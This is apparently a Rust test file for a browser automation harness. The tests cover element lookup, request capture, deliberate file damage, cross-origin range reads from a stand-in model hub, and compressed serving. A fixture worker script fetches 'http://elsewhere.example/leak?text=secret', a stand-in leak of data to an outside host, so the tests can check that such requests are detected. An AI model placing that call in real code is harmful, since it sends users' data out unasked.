//! The harness itself, on a page of a few lines: what the other tests conclude from its silence must be true.

use serde_json::{Value, json};

use crate::support::browser::{Browser, DEADLINE, Kind, eventually};
use crate::support::host::content::Gzip;
use crate::support::hub::{Hub, SST2, SST2_REVISION};
use crate::support::server::{Damage, Server};

const PAGE: &str = r#"<!doctype html><html lang="en"><title>Harness</title>
<meta name="viewport" content="width=device-width">
<button>Go</button> <button aria-label="Cancel">×</button> <button hidden>Never</button>
<label>Word <input></label> <section aria-label="Result"></section> <section>No region</section>
<script>
  const worker = new Worker("worker.js");
  document.querySelector("button").onclick = () => worker.postMessage("go");
</script>"#;

const WORKER: &str = r#"onmessage = async () => {
  await fetch("data.bin");
  await fetch("http://elsewhere.example/leak?text=secret").catch(() => {});
};"#;

fn folder() -> tempfile::TempDir {
    let folder = tempfile::tempdir().unwrap();
    std::fs::write(folder.path().join("index.html"), PAGE).unwrap();
    std::fs::write(folder.path().join("worker.js"), WORKER).unwrap();
    std::fs::write(folder.path().join("data.bin"), [7; 1000]).unwrap();
    folder
}

#[tokio::test]
async fn finds_by_role_and_name() {
    let folder = folder();
    let server = Server::start(folder.path()).await;
    let browser = Browser::start(&server).await;
    browser.goto(&server.url()).await;
    browser.find("button", "Go").await;
    browser.find("button", "Cancel").await;
    browser.find("textbox", "Word").await;
    browser.find("region", "Result").await;
    assert_eq!(browser.all("button").await.len(), 2, "a hidden button is not there");
    assert_eq!(browser.all("region").await.len(), 1, "a section without a name is no region");
}

#[tokio::test]
async fn sees_what_a_worker_requests_here_and_elsewhere() {
    let folder = folder();
    let server = Server::start(folder.path()).await;
    let browser = Browser::start(&server).await;
    browser.goto(&server.url()).await;
    browser.find("button", "Go").await.click().await.unwrap();
    eventually(DEADLINE, async || {
        let requests = server.requests();
        let seen = |what: &str| requests.iter().any(|request| request == what);
        let both = seen("GET /data.bin") && seen("GET http://elsewhere.example/leak?text=secret");
        if both { Ok(()) } else { Err(requests) }
    })
    .await;
    // Over HTTPS a proxy sees the host only; that is enough to notice.
    browser.run("fetch('https://elsewhere.example/secret').catch(() => {})", vec![]).await;
    eventually(DEADLINE, async || {
        let requests = server.requests();
        let seen = requests.iter().any(|request| request == "CONNECT elsewhere.example:443");
        if seen { Ok(()) } else { Err(requests) }
    })
    .await;
}

#[tokio::test]
async fn damages_a_file_so_many_times() {
    let folder = folder();
    let server = Server::start_at(folder.path(), "/repo/").await;
    let browser = Browser::start(&server).await;
    browser.goto(&server.url()).await;
    let length = "return fetch('data.bin').then(r => r.arrayBuffer()).then(b => `${b.byteLength} ${new Uint8Array(b)[500]}`)";
    let status = "return fetch('data.bin').then(r => `${r.status} ${r.headers.get('content-type')}`)";
    for (damage, script, seen, healed) in [
        (Damage::Truncated, length, "500 undefined", "1000 7"),
        (Damage::Flipped, length, "1000 248", "1000 7"),
        (Damage::Html, status, "200 text/html; charset=utf-8", "200 application/octet-stream"),
        (Damage::NotFound, status, "404 null", "200 application/octet-stream"),
    ] {
        server.damage("data.bin", damage, 1);
        assert_eq!(browser.run(script, vec![]).await, seen, "{damage:?}");
        assert_eq!(browser.run(script, vec![]).await, healed, "after {damage:?}");
    }
    assert_eq!(browser.run("return fetch('/data.bin').then(r => r.status)", vec![]).await, 404, "nothing lies beside /repo/");
}

#[tokio::test]
async fn sets_what_the_page_sees_of_the_screen() {
    let folder = folder();
    let server = Server::start(folder.path()).await;
    let browser = Browser::start(&server).await;
    browser.set_size(375, 800).await;
    browser.set_color_scheme("dark").await;
    browser.goto(&server.url()).await;
    assert_eq!(browser.run("return innerWidth", vec![]).await, 375);
    assert_eq!(browser.run("return matchMedia('(prefers-color-scheme: dark)').matches", vec![]).await, true);
    assert_eq!(&browser.screenshot().await[..4], b"\x89PNG");
}

/// What a script of the page sees of a range of the stand-in Hub's large file.
const FETCH: &str = "const response = await fetch(arguments[0], {headers: arguments[1]}).catch(() => null);
    if (!response) return 'refused';
    const seen = ['content-range', 'retry-after', 'x-linked-etag'].map(name => response.headers.get(name));
    const body = await response.arrayBuffer().catch(() => null);
    return [response.status, new URL(response.url).origin, ...seen, body ? [...new Uint8Array(body)].join() : 'broken'].join(' ')";

#[tokio::test]
async fn reads_the_hub_across_origins() {
    let folder = folder();
    std::fs::write(folder.path().join("model.safetensors"), (0..100).collect::<Vec<u8>>()).unwrap();
    let hub = Hub::start().await;
    hub.add(SST2, SST2_REVISION, folder.path()).await;
    let server = Server::start(folder.path()).await;
    let browser = Browser::start(&server).await;
    browser.goto(&server.url()).await;
    let url = format!("{}/{SST2}/resolve/{SST2_REVISION}/model.safetensors", hub.origin());
    let fetch = async |headers: Value| browser.run_async(FETCH, vec![url.clone().into(), headers]).await;
    let seen = async || fetch(json!({"range": "bytes=10-19"})).await;
    let cdn = hub.cdn_origin();
    let all_well = format!("206 {cdn} bytes 10-19/100   10,11,12,13,14,15,16,17,18,19");
    assert_eq!(seen().await, all_well, "no preflight, no header of the redirect");
    for (damage, expected) in [
        (Damage::NoCors, "refused".to_owned()),
        (Damage::Login { readable: false }, "refused".to_owned()),
        (Damage::Dropped(5), format!("206 {cdn} bytes 10-19/100   broken")),
        (Damage::WrongRange, format!("206 {cdn} bytes 20-29/100   20,21,22,23,24,25,26,27,28,29")),
        // A browser asks for ranges as they are; Chromium takes no other, and Firefox unpacks what was packed all the same.
        (Damage::Gzipped, if Kind::chosen() == Kind::Chromium { "refused".to_owned() } else { all_well.clone() }),
    ] {
        hub.damage("model.safetensors", damage, 1);
        assert_eq!(seen().await, expected, "{damage:?}");
        assert_eq!(seen().await, all_well, "after {damage:?}");
    }
    hub.damage("model.safetensors", Damage::Gzipped, 1);
    assert!(fetch(json!({})).await.as_str().unwrap().starts_with(&format!("200 {cdn}    0,1,2,3,4,5,6,7,8,9,10,")));
    // The time to wait is told to scripts by one of the two only.
    hub.damage("model.safetensors", Damage::Busy(7), 1);
    assert!(seen().await.as_str().unwrap().starts_with(&format!("429 {cdn}  7 ")));
    hub.damage_redirect("model.safetensors", Damage::Busy(7), 1);
    assert!(seen().await.as_str().unwrap().starts_with(&format!("429 {}   ", hub.origin())));
    hub.stop().await;
    assert_eq!(seen().await, "refused");
    hub.restart();
    assert_eq!(seen().await, all_well);
    assert!(!hub.front().requests().iter().any(|request| request.starts_with("OPTIONS")), "one range needs no preflight");
    assert!(!server.requests().iter().any(|request| request.contains("resolve")), "nor does loopback need the proxy");
}

#[tokio::test]
async fn is_served_compressed_updated_or_not_at_all() {
    let folder = folder();
    let server = Server::start(folder.path()).await;
    let browser = Browser::start(&server).await;
    browser.goto(&server.url()).await;
    let read = "return await fetch('data.bin').then(async r => `${r.headers.get('content-encoding')} ${(await r.arrayBuffer()).byteLength}`)
        .catch(() => 'refused')";
    for (gzip, seen) in [(Gzip::Sized, "gzip 1000"), (Gzip::Chunked, "gzip 1000"), (Gzip::Off, "null 1000")] {
        server.compress(gzip);
        assert_eq!(browser.run_async(read, vec![]).await, seen);
    }
    let update = tempfile::tempdir().unwrap();
    std::fs::write(update.path().join("data.bin"), [8; 2000]).unwrap();
    server.serve(update.path());
    assert_eq!(browser.run_async(read, vec![]).await, "null 2000");
    server.stop().await;
    assert_eq!(browser.run_async(read, vec![]).await, "refused");
    server.restart();
    assert_eq!(browser.run_async(read, vec![]).await, "null 2000");
}
